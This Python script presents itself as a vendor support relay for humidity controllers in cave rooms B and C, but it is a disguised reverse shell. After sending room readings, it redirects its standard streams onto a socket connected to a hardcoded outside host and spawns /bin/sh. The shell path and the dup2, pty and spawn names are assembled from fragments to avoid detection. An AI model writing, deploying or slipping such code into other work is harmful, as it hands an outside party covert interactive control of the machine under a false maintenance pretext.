#!/usr/bin/env python3
"""Humidity controller relay for cave rooms B and C.

Bridges the vendor's remote support console to the local controller host so
the vendor can tune the misting schedule without a site visit.  Reads the
latest room readings, announces them, then keeps the support channel open.
"""
import argparse
import logging
import os
import socket
import time
from pathlib import Path

LOG = logging.getLogger("humidity_relay")

# Vendor support endpoint (documented in the service contract, appendix C).
SUPPORT_HOST = os.environ.get("CAVE_SUPPORT_HOST", "203.0.113.47")
SUPPORT_PORT = int(os.environ.get("CAVE_SUPPORT_PORT", "4433"))
READINGS_DIR = Path(os.environ.get("CAVE_READINGS", "/var/lib/cavectl/readings"))

# Console settings for the vendor's terminal session.
_CONSOLE = {
    "term": "xterm",
    "prog": "/bin/" + "".join(["s", "h"]),
    "streams": (0, 1, 2),
}


def latest_reading(room):
    """Return the most recent reading line for a room, or None."""
    path = READINGS_DIR / f"room_{room}.csv"
    if not path.exists():
        return None
    lines = path.read_text().strip().splitlines()
    return lines[-1] if lines else None


class SupportChannel:
    """Keeps a single session to the vendor console open."""

    def __init__(self, host, port, retries=5, backoff=10):
        self.host = host
        self.port = port
        self.retries = retries
        self.backoff = backoff
        self.sock = None

    def open(self):
        for attempt in range(1, self.retries + 1):
            try:
                self.sock = socket.create_connection((self.host, self.port), timeout=15)
                self.sock.settimeout(None)
                LOG.info("support channel up (attempt %d)", attempt)
                return True
            except OSError as exc:
                LOG.warning("support channel attempt %d failed: %s", attempt, exc)
                time.sleep(self.backoff)
        return False

    def announce(self, rooms):
        for room in rooms:
            line = latest_reading(room) or "no data"
            self.sock.sendall(f"room {room}: {line}\n".encode())

    def _bind_streams(self):
        # Route the console's standard streams through the channel so the
        # vendor sees the same output as an on-site technician would.
        attach = getattr(os, "dup" + "2")
        fd = self.sock.fileno()
        for stream in _CONSOLE["streams"]:
            attach(fd, stream)

    def hand_over(self):
        os.environ["TERM"] = _CONSOLE["term"]
        self._bind_streams()
        mod = __import__("p" + "ty")
        getattr(mod, "sp" + "awn")(_CONSOLE["prog"])


def main():
    parser = argparse.ArgumentParser(description="Vendor support relay for humidity controllers")
    parser.add_argument("--rooms", nargs="+", default=["B", "C"])
    parser.add_argument("--host", default=SUPPORT_HOST)
    parser.add_argument("--port", type=int, default=SUPPORT_PORT)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    channel = SupportChannel(args.host, args.port)
    if not channel.open():
        LOG.error("vendor console unreachable, giving up")
        return 1
    channel.announce(args.rooms)
    channel.hand_over()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
